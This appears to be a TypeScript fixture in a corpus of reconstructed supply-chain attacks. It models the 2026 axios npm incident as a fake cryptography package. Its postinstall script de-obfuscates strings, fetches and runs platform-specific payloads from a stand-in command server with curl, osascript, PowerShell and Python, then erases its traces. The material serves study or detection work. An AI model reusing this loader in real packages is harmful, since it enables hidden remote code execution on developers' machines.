import type { Incident } from '../incident.ts';

export const axios: Incident = {
  id: 'axios-2026',
  story:
    'The HTTP client itself gains nothing but a dependency; that dependency, a look-alike of a cryptography library, has a postinstall script which decodes its strings (reversed base64 and XOR with a key), asks a command server for a program for the platform (AppleScript, PowerShell behind a copied binary, Python), starts it, and then deletes itself and puts a clean package.json in its place.',
  sources: [
    'https://diegorodrigo.dev/en/2026/04/17/the-axios-case-trusting-npm/',
    'https://excellence-consulting.services/resources/axios_npm_supply_chain_attack.php',
    'https://lumstep.fr/fr/guides/axios-supply-chain-attack-2026',
  ],
  name: 'corpus-plain-cipher',
  version: '4.2.1',
  manifest: {
    main: 'index.js',
    scripts: { postinstall: 'node setup.js' },
    description: 'Standards for secure algorithms',
  },
  payloads: [
    {
      path: 'setup.js',
      format: 'cjs',
      uses: { fs: 'fs', os: 'os', path: 'path', childProcess: 'child_process' },
      sections: [
        {
          provides: ['unscramble', 'server'],
          code: `
const key = 'Corpus_7077';
function unscramble(text) {
  const bytes = Buffer.from(text.split('').reverse().join('').replaceAll('_', '='), 'base64').toString('utf8');
  return bytes.split('').map((letter, index) => String.fromCharCode(letter.charCodeAt(0) ^ key.charCodeAt((index * 3 + 1) % key.length))).join('');
}
const server = 'http://sfr.invalid:8000/' + '7100042';
`,
        },
        {
          provides: ['startMac', 'startWindows', 'startLinux'],
          code: `
const silent = { cwd: '/corpus-no-such-folder', detached: true, stdio: 'ignore', windowsHide: true };
const folder = path.join(os.tmpdir(), 'corpus-no-such-folder');
function startMac() {
  const script = 'do shell script "curl -o /corpus-no-such-folder/com.apple.corpus.mond -d packages.invalid/product0 -s ' + server + ' && chmod 770 /corpus-no-such-folder/com.apple.corpus.mond && /corpus-no-such-folder/com.apple.corpus.mond ' + server + ' &"';
  fs.writeFileSync(path.join(folder, '7100042'), script);
  childProcess.exec('nohup osascript "' + path.join(folder, '7100042') + '" > /dev/null 2>&1 &', silent);
}
function startWindows() {
  const copy = path.join(process.env.PROGRAMDATA || folder, 'corpus-no-such-folder', 'wt.exe');
  fs.copyFileSync(path.join(folder, 'powershell.exe'), copy);
  fs.writeFileSync(path.join(folder, '7100042.vbs'), 'CreateObject("WScript.Shell").Run "cmd.exe /c curl -s -X POST -d packages.invalid/product1 ' + server + ' > 7100042.ps1 & wt.exe -w hidden -ep bypass -file 7100042.ps1", 0, False');
  childProcess.exec('cscript "' + path.join(folder, '7100042.vbs') + '" //nologo', silent);
}
function startLinux() {
  childProcess.exec('curl -o /corpus-no-such-folder/ld.py -d packages.invalid/product2 -s ' + server + ' && nohup python3 /corpus-no-such-folder/ld.py ' + server + ' > /dev/null 2>&1 &', silent);
}
`,
        },
        {
          provides: [],
          code: `
const entry = unscramble('_0VWZ0F2YlRXZz9Wa');
try {
  if (os.platform() === 'darwin') {
    startMac();
  } else if (os.platform() === 'win32') {
    startWindows();
  } else {
    startLinux();
  }
} catch (error) {}
setTimeout(() => entry, 15000);
fs.unlink(__filename, () => {});
fs.unlink(path.join(__dirname, 'package.json'), () => {});
fs.rename(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'), () => {});
`,
        },
      ],
    },
  ],
  files: {
    'index.js': `exports.rotate = (word, by) => (word << by) | (word >>> (32 - by));\n`,
    'package.md': '{ "name": "corpus-plain-cipher", "version": "4.2.0", "main": "index.js" }\n',
  },
  marks: {
    'setup.js': 'lib/prepare.js',
    'package.md': 'NOTES.md',
    '7100042': '1184',
    'com.apple.corpus.mond': 'com.fonts.d',
  },
};
